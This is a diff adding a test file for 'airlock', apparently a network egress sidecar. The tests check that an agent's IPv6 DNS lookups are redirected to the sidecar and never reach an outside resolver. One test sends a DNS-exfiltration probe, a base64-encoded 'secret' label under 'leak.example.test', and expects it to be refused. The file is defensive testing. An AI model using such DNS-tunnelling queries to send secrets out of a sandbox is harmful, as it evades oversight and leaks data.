@@ -1,0 +1,180 @@
+// Agent DNS over IPv6 (root, netns): `airlock init`'s ip6tables rules redirect the agent's UDP and
+// TCP port 53 to [::1]:15053, and the sidecar must answer there — before, nothing listened and
+// IPv6 DNS failed (closed). A world namespace runs a real resolver (dnsmasq) on its IPv6 address
+// that knows the allowed name by a *different* address and logs every question, so an answer
+// from the sidecar, and a silent log, prove the redirect. docs/capture.md "IPv6"; THREATS.md I2.
+import { expect } from "chai";
+import { execFile } from "node:child_process";
+import { chownSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { AIRLOCK } from "./helpers/cli.ts";
+import {
+  background,
+  createPodWorld,
+  requireNetnsPrerequisites,
+  scratchFile,
+  type Background,
+  type PodWorld,
+} from "./helpers/netns.ts";
+
+const AGENT = 1000;
+const SIDECAR = 15000;
+const PINNED = "10.77.1.10"; // what the sidecar answers for the allowed name
+const WORLD_ANSWER = "10.77.1.99"; // what the world's resolver would answer, were it asked
+
+interface Run {
+  code: number;
+  stdout: string;
+  stderr: string;
+}
+
+function run(args: string[], timeoutMs = 15_000): Promise<Run> {
+  return new Promise((resolve) => {
+    execFile(
+      args[0] ?? "",
+      args.slice(1),
+      { encoding: "utf8", timeout: timeoutMs, env: { PATH: "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin" } },
+      (err, stdout, stderr) => {
+        resolve({ code: err ? (typeof err.code === "number" ? err.code : 1) : 0, stdout, stderr });
+      },
+    );
+  });
+}
+
+describe("agent DNS over IPv6 (root, netns): redirected to the sidecar at [::1]:15053", function () {
+  this.timeout(60_000);
+  let pw: PodWorld;
+  let sidecar: Background;
+  const cleanups: (() => unknown)[] = [];
+  const dnsLog = (): string => readFileSync(join(pw.dir, "dnsmasq.log"), "utf8");
+  /** How many questions the world's resolver has logged. */
+  const queries = (): number => (dnsLog().match(/query\[/g) ?? []).length;
+  /** `dig` as the agent; `server` is where the agent thinks it sends the query. */
+  const agentDig = (server: string, name: string, extra: string[]) =>
+    run(pw.asUser(AGENT, ["dig", `@${server}`, "+tries=1", "+time=3", ...extra, name]));
+
+  before(async function () {
+    requireNetnsPrerequisites([
+      "ip",
+      "setpriv",
+      "iptables-restore",
+      "ip6tables-restore",
+      "dnsmasq",
+      "dig",
+      "python3",
+    ]);
+    pw = createPodWorld([PINNED]);
+    cleanups.push(() => {
+      pw.destroy();
+    });
+    const lo = await run(pw.inPod(["ip", "-6", "addr", "show", "dev", "lo"]));
+    expect(lo.stdout, "the pod's loopback must be up with ::1").to.match(/inet6 ::1\/128/);
+    const dnsmasq = await background(
+      pw.inWorld([
+        "dnsmasq",
+        "--keep-in-foreground",
+        "--no-resolv",
+        "--no-hosts",
+        "--bind-interfaces",
+        `--listen-address=${pw.worldIp6}`,
+        "--user=root",
+        `--pid-file=${join(pw.dir, "dnsmasq.pid")}`,
+        "--log-queries",
+        `--log-facility=${join(pw.dir, "dnsmasq.log")}`,
+        `--address=/api.example.test/${WORLD_ANSWER}`,
+      ]),
+    );
+    cleanups.push(() => dnsmasq.stop());
+    // The control: from the sidecar's UID (exempt from capture) the world's resolver does answer.
+    const direct = await pollDig(() =>
+      run(
+        pw.asUser(SIDECAR, ["dig", `@${pw.worldIp6}`, "+tries=1", "+time=1", "+short", "api.example.test"]),
+      ),
+    );
+    expect(direct, "the world's resolver must answer the sidecar UID directly").to.equal(WORLD_ANSWER);
+    const init = await run(pw.inPod([AIRLOCK, "init"]));
+    expect(init.code, `airlock init failed:\n${init.stderr}`).to.equal(0);
+    const policy = scratchFile(
+      pw,
+      "policy.yaml",
+      `apiVersion: airlock.dev/v1alpha1
+kind: EgressPolicy
+metadata: {name: agent, namespace: agents}
+spec:
+  podSelector: {}
+  egress:
+    - {name: api, hosts: [api.example.test]}
+`,
+    );
+    const trustDir = join(pw.dir, "trust");
+    mkdirSync(trustDir, { mode: 0o755 });
+    chownSync(trustDir, SIDECAR, SIDECAR);
+    sidecar = await background(
+      pw.asUser(SIDECAR, [
+        AIRLOCK,
+        "sidecar",
+        "--policy",
+        policy,
+        "--trust-bundle",
+        join(trustDir, "ca-bundle.pem"),
+        "--resolve",
+        `api.example.test:${PINNED}`,
+        "--allow-address",
+        `${PINNED}/32`,
+        "--metrics",
+        "127.0.0.1:15090",
+      ]),
+      /listening on/,
+    );
+    cleanups.push(() => sidecar.stop());
+  });
+
+  after(async function () {
+    for (const cleanup of cleanups.reverse()) await cleanup();
+  });
+
+  for (const transport of ["+notcp", "+tcp"]) {
+    it(`dig @::1 ${transport}: answered by the sidecar`, async function () {
+      const res = await agentDig("::1", "api.example.test", [transport, "+short"]);
+      expect(res.stdout.trim(), res.stdout + res.stderr).to.equal(PINNED);
+    });
+
+    it(`dig @<the world's IPv6 resolver> ${transport}: redirected to the sidecar, the world never asked`, async function () {
+      const before = queries();
+      const res = await agentDig(pw.worldIp6, "api.example.test", [transport, "+short"]);
+      expect(res.stdout.trim(), res.stdout + res.stderr).to.equal(PINNED);
+      const denied = await agentDig(pw.worldIp6, "c2VjcmV0.leak.example.test", [transport]);
+      expect(denied.stdout, denied.stderr).to.match(/status: NXDOMAIN/);
+      expect(dnsLog()).not.to.include("leak.example.test");
+      expect(queries()).to.equal(before);
+    });
+  }
+
+  it("the system resolver with an IPv6 nameserver (getaddrinfo) resolves through the sidecar", async function () {
+    const before = queries();
+    writeFileSync(
+      join("/etc/netns", pw.pod, "resolv.conf"),
+      `nameserver ${pw.worldIp6}\noptions timeout:1 attempts:1\n`,
+    );
+    const res = await run(
+      pw.asUser(AGENT, [
+        "python3",
+        "-c",
+        "import socket;print(socket.getaddrinfo('api.example.test',80,socket.AF_INET)[0][4][0])",
+      ]),
+    );
+    expect(res.stdout.trim(), res.stderr).to.equal(PINNED);
+    expect(queries(), "the world's resolver was asked").to.equal(before);
+  });
+});
+
+/** Runs `once` until it prints an answer or 5 s pass (dnsmasq may still be starting). */
+async function pollDig(once: () => Promise<Run>): Promise<string> {
+  const deadline = Date.now() + 5000;
+  for (;;) {
+    const res = await once();
+    const answer = res.stdout.trim();
+    if (/^[\d.]+$/.test(answer) || Date.now() >= deadline) return answer;
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+}
